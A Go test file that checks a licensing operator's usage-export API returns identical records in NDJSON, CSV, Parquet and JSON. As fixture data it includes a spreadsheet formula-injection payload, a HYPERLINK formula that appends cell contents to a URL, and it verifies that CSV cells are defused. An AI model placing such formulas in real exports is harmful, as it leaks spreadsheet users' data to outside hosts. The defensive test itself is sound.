package restusage

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"net/http"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"github.com/google/go-cmp/cmp/cmpopts"
	"github.com/parquet-go/parquet-go"

	"github.com/licensing-operator/licensing-operator/internal/licensing"
	"github.com/licensing-operator/licensing-operator/internal/usage"
	"github.com/licensing-operator/licensing-operator/internal/usage/export"
	"github.com/licensing-operator/licensing-operator/internal/usage/opaque"
)

// formula is what a spreadsheet would run.
const formula = `=HYPERLINK("http://example.com?"&A1,"open")`

func TestEveryFormatHasEveryRecordExactly(t *testing.T) {
	t.Parallel()
	p := newProducer(t, "formats", 2)
	for i := range 15 {
		p.uses(t, p.customers[i%2], fmt.Sprintf("user %d", i), "PhotoPrint", float64(i)+0.333333)
	}
	p.uses(t, p.customers[0], formula, "PhotoPrint", 1)
	p.uses(t, p.customers[0], "línea\r\n\"quoted\", 日本語 😀", "CADPrint", 0.000001)
	p.uses(t, p.customers[1], "greedy", "Rare, and dear", 1)
	p.session(t, p.customers[0], "lisa")
	want := p.settled(t)

	for format, read := range map[string]func(*testing.T, []byte) []usage.Record{"ndjson": lines, "csv": sheet, "parquet": table} {
		answer, trailer, err := p.try(t.Context(), "GET", "/usage/v1/export?format="+format, system.Admin.AdminToken(), "", http.StatusOK)
		if err != nil {
			t.Fatal(err)
		}
		got := read(t, answer)
		same(t, format, want, got)
		if last := fmt.Sprint(got[len(got)-1].Position); trailer.Get("Usage-Position") != last {
			t.Errorf("%s: the trailer is %v, want %s", format, trailer, last)
		}
	}
	var page struct {
		Records []export.Document[json.Number]
		More    bool
	}
	answer := p.call(t, "GET", "/usage/v1/records?limit=10000", "", http.StatusOK)
	if err := json.Unmarshal(answer, &page); err != nil || page.More {
		t.Fatalf("%v, more is %t", err, page.More)
	}
	var got []usage.Record
	for _, document := range page.Records {
		got = append(got, recordOf(t, document))
	}
	same(t, "json", want, got)
}

// same compares records with those that were committed, but for what the store adds.
func same(t *testing.T, what string, want map[string]usage.Record, got []usage.Record) {
	t.Helper()
	found := map[string]usage.Record{}
	for i, record := range got {
		if !record.Intact() {
			t.Errorf("%s: record %s is not what was sealed", what, record.ID)
		}
		if i > 0 && record.Position <= got[i-1].Position && !opaque.Is(record.Position) {
			t.Errorf("%s: position %d follows %d", what, record.Position, got[i-1].Position)
		}
		found[record.ID] = record
	}
	if len(found) != len(got) {
		t.Errorf("%s: %d records, of which %d are different ones", what, len(got), len(found))
	}
	apart := []cmp.Option{cmpopts.IgnoreFields(usage.Record{}, "Position", "Seal", "MetaData"), cmpopts.EquateEmpty()}
	if diff := cmp.Diff(want, found, apart...); diff != "" {
		t.Errorf("%s (-committed +exported):\n%.3000s", what, diff)
	}
}

func recordOf[Decimal string | json.Number](t *testing.T, d export.Document[Decimal]) usage.Record {
	t.Helper()
	tokens := func(text Decimal) licensing.Tokens {
		parsed, err := licensing.ParseTokens(string(text))
		if err != nil {
			t.Fatal(err)
		}
		return parsed
	}
	at := func(text string) (parsed time.Time) {
		if text != "" {
			var err error
			if parsed, err = time.Parse(time.RFC3339, text); err != nil {
				t.Fatal(err)
			}
		}
		return parsed
	}
	return usage.Record{
		ID: d.ID, Position: d.Position, TransactionID: d.TransactionID, Sequence: d.Sequence, CorrelationID: d.CorrelationID,
		Kind: d.Kind, Reason: d.Reason, Time: at(d.Time), Namespace: d.Namespace, Instance: d.Instance,
		SubjectKind: d.SubjectKind, SubjectName: d.SubjectName, SubjectUID: d.SubjectUID,
		RequesterType: d.RequesterType, RequesterValue: d.RequesterValue, Caller: d.Caller,
		ActivationID: d.ActivationID, Item: d.Item, Version: d.Version, Count: licensing.Count(tokens(d.Count)), Rate: tokens(d.Rate),
		RateTable: d.RateTable, Series: d.Series, ActionID: d.ActionID, Tokens: tokens(d.Tokens),
		LimitationID: d.LimitationID, Units: tokens(d.Units), Period: d.Period, PeriodStart: at(d.PeriodStart),
		Message: d.Message, MetaData: d.MetaData, Seal: d.Seal,
	}
}

func lines(t *testing.T, text []byte) (read []usage.Record) {
	t.Helper()
	for line := range bytes.Lines(text) {
		var document export.Document[string]
		if err := json.Unmarshal(line, &document); err != nil {
			t.Fatal(err)
		}
		read = append(read, recordOf(t, document))
	}
	return read
}

// apostrophes are those that were put in: the contract says which to take away.
var apostrophes = regexp.MustCompile(`(^|[;\t\r\n])'`)

// sheet also wants no cell to be a formula.
func sheet(t *testing.T, text []byte) (read []usage.Record) {
	t.Helper()
	// The reader of the library takes a carriage return before a line feed away, also inside a cell.
	const kept = "\uE000"
	all, err := csv.NewReader(strings.NewReader(strings.ReplaceAll(string(text), "\r", kept))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	numbers := []string{"position", "sequence", "period", "count", "rate", "tokens", "units"}
	for _, line := range all[1:] {
		fields := map[string]any{}
		for i, cell := range line {
			name := all[0][i]
			cell = strings.ReplaceAll(cell, kept, "\r")
			if !slices.Contains(numbers, name) && strings.ContainsAny(cell[:min(1, len(cell))], "=+-@") {
				t.Errorf("%s is %q", name, cell)
			}
			value := apostrophes.ReplaceAllString(cell, "$1")
			switch {
			case name == "position" || name == "sequence" || name == "period":
				fields[name] = json.Number(value)
			case name == "metaData" && value != "":
				fields[name] = json.RawMessage(value)
			case name != "metaData":
				fields[name] = value
			}
		}
		encoded, err := json.Marshal(fields)
		if err != nil {
			t.Fatal(err)
		}
		read = append(read, lines(t, encoded)...)
	}
	return read
}

func table(t *testing.T, text []byte) (read []usage.Record) {
	t.Helper()
	rows, err := parquet.Read[export.Row](bytes.NewReader(text), int64(len(text)))
	if err != nil {
		t.Fatal(err)
	}
	for _, row := range rows {
		r := usage.Record{
			ID: row.ID, Position: row.Position, TransactionID: row.TransactionID, Sequence: row.Sequence, CorrelationID: row.CorrelationID,
			Kind: usage.Kind(row.Kind), Reason: row.Reason, Time: row.Time.UTC(), Namespace: row.Namespace, Instance: row.Instance,
			SubjectKind: row.SubjectKind, SubjectName: row.SubjectName, SubjectUID: row.SubjectUID,
			RequesterType: row.RequesterType, RequesterValue: row.RequesterValue, Caller: row.Caller,
			ActivationID: row.ActivationID, Item: row.Item, Version: row.Version, Count: licensing.Count(row.Count.Micros()), Rate: licensing.Tokens(row.Rate.Micros()),
			RateTable: row.RateTable, Series: row.Series, ActionID: row.ActionID, Tokens: licensing.Tokens(row.Tokens.Micros()),
			LimitationID: row.LimitationID, Units: licensing.Tokens(row.Units.Micros()), Period: row.Period, Message: row.Message, Seal: row.Seal,
		}
		if row.PeriodStart != 0 {
			r.PeriodStart = time.UnixMilli(row.PeriodStart).UTC()
		}
		if row.MetaData != nil {
			r.MetaData = json.RawMessage(*row.MetaData)
		}
		read = append(read, r)
	}
	return read
}
